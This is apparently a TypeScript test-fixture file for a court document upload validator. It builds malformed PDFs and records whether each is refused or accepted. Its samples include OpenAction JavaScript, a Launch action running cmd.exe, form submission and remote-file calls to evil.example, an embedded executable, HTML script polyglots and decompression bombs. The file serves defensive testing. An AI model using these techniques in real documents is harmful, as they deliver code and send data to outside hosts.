import { deflateSync } from 'node:zlib'
import { buildPdf, buildZip, objectStream } from '@court/adapters/files/hostile-files'
import { harmless, refused, type HostileFile } from './hostile-file.ts'

const active = (name: string, body: Parameters<typeof refused>[3]) =>
  refused(name, 'complaint.pdf', 'file.pdf-active-content', body)
const broken = (name: string, body: Parameters<typeof refused>[3]) =>
  refused(name, 'complaint.pdf', 'file.pdf-broken', body)
const bomb = (name: string, body: Parameters<typeof refused>[3]) =>
  refused(name, 'complaint.pdf', 'file.pdf-bomb', body)
const openAction = (action: string) => buildPdf({ catalog: `/OpenAction << ${action} >>` })
const replaced = (from: string | RegExp, to: string) =>
  Buffer.from(buildPdf().toString('latin1').replace(from, to), 'latin1')

/** Locked by the standard handler, with the rights of `permissions`; whether a password is asked for follows from the keys. */
const locked = (permissions: number) =>
  replaced(
    '/Root 1 0 R',
    `/Root 1 0 R /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P ${permissions} /O <${'4e'.repeat(32)}> /U <${'28'.repeat(32)}> >> /ID [<00> <00>]`,
  )

const stream = (filter: string, packed: Buffer) =>
  Buffer.concat([
    Buffer.from(`<< /Filter ${filter} /Length ${packed.length} >>\nstream\n`),
    packed,
    Buffer.from('\nendstream'),
  ])

export const hostilePapers: HostileFile[] = [
  active('a PDF with a script', () => openAction('/S /JavaScript /JS (app.alert\\(1\\))')),
  active('a PDF whose script is named in hexadecimal', () => openAction('/S /#4aava#53cript')),
  active('a PDF with a script packed away', () =>
    buildPdf({ more: [objectStream(5, ['<< /S /JavaScript /JS (x) >>'])] }),
  ),
  active('a PDF with a script between two lying streams', () =>
    buildPdf({ more: ['(stream\n) 5 0 obj << /S /JavaScript >> endobj (endstream)'] }),
  ),
  active('a PDF that starts a program', () => openAction('/S /Launch /Win << /F (cmd.exe) >>')),
  active('a PDF that sends its form away', () => openAction('/S /SubmitForm /F (http://evil.example)')),
  active('a PDF that imports data', () => openAction('/S /ImportData /F (//evil.example/x.fdf)')),
  active('a PDF that opens a file of another machine', () =>
    openAction('/S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf)'),
  ),
  active('a PDF that opens an attachment', () => openAction('/S /GoToE /T << /R /C >>')),
  active('a PDF with a film', () => buildPdf({ more: ['<< /Type /Annot /Subtype /RichMedia >>'] })),
  active('a PDF with a clip and its script', () => openAction('/S /Rendition /OP 0')),
  active('a PDF with a program attached', () =>
    buildPdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(order.exe) 4 0 R] >> >>',
      more: [
        '<< /Type /Filespec /F (order.exe) /EF << /F 5 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
      ],
    }),
  ),
  active('a PDF with an attachment as a note', () =>
    buildPdf({ more: ['<< /Type /Annot /Subtype /FileAttachment >>'] }),
  ),
  active('a PDF with an XFA form', () => buildPdf({ catalog: '/AcroForm << /XFA (x) >>' })),
  refused('a PDF under a password', 'a.pdf', 'file.pdf-encrypted', () => locked(-1)),
  refused('a PDF that opens but may not be printed', 'a.pdf', 'file.pdf-encrypted', () => locked(-3904)),
  refused('a PDF that is a zip too', 'a.pdf', 'file.mixed-content', () =>
    Buffer.concat([buildPdf(), buildZip([{ name: 'a', text: 'a' }])]),
  ),
  refused('a PDF that is a page too', 'a.html', 'file.mixed-content', () =>
    replaced('%\xe2\xe3\xcf\xd3', '%<script>alert(1)</script>'),
  ),
  refused('a PDF behind a page', 'a.pdf', 'file.wrong-type', () =>
    Buffer.concat([Buffer.from('<html><script>1</script>'), buildPdf()]),
  ),
  bomb('a PDF whose packed objects unpack to 70 MB', () =>
    buildPdf({ more: [objectStream(5, ['<< >>'], 70_000_000)] }),
  ),
  bomb('a PDF whose drawing unpacks to 200 MB', () =>
    buildPdf({ more: [stream('/FlateDecode', deflateSync(Buffer.alloc(200_000_000)))] }),
  ),
  bomb('a PDF packed twice', () =>
    buildPdf({ more: [stream('[/FlateDecode /FlateDecode]', deflateSync(deflateSync(Buffer.alloc(1_000_000))))] }),
  ),
  bomb('a PDF of three hundred thousand objects', () => buildPdf({ more: Array.from({ length: 300_000 }, () => '0') })),
  bomb('a PDF with a page of a kilometre', () => replaced('[0 0 595 842]', '[0 0 3000000 3000000]')),
  broken('a PDF whose page tree bites its tail', () => replaced('/Kids [3 0 R]', '/Kids [2 0 R]')),
  broken('a PDF of a hundred thousand brackets', () =>
    replaced('/MediaBox', `/Annots ${'['.repeat(100_000)} /MediaBox`),
  ),
  broken('a PDF without pages', () => replaced('[3 0 R] /Count 1', '[] /Count 0')),
  broken('a PDF of a head alone', () => '%PDF-1.7\n%%EOF'),
  broken('half a PDF', () => buildPdf().subarray(0, 200)),
  refused('a PDF of more pages than allowed', 'a.pdf', 'file.too-many-pages', () =>
    replaced('[3 0 R] /Count 1', `[${'3 0 R '.repeat(400)}] /Count 400`),
  ),
  harmless('a PDF that says it has a billion pages', 'a.pdf', [], () => replaced('/Count 1', '/Count 1000000000')),
  harmless('a PDF whose table of objects leads back to itself', 'a.pdf', [], () => {
    const text = buildPdf().toString('latin1')
    const at = /startxref\n(\d+)/.exec(text)?.[1] ?? '0'
    return Buffer.from(text.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${at}`), 'latin1')
  }),
  harmless('a PDF whose stream says it is longer than the file', 'a.pdf', [], () => {
    const body = stream('/FlateDecode', deflateSync(Buffer.from('q Q'))).toString('latin1')
    return buildPdf({ more: [Buffer.from(body.replace(/\/Length \d+/, '/Length 99999999'), 'latin1')] })
  }),
]
